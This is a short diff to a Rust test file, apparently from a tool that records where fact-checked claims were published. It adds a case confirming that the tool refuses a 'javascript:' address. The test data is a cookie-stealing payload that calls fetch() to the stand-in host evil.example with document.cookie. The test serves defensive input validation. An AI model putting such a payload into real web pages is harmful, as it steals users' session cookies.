@@ -270,6 +270,11 @@ fn bad_input_leaves_the_log_unchanged() {
             "al-monitor.com/originals/2022/07",
             "it does not start with a scheme such as https://",
         ),
+        // Reports carry it into ClaimReview markup that web pages embed.
+        (
+            "javascript:fetch('//evil.example/?c='+document.cookie)",
+            "a javascript: address is not where a source was published (it is code, data or a file on one machine)",
+        ),
     ] {
         refused(
             &w,
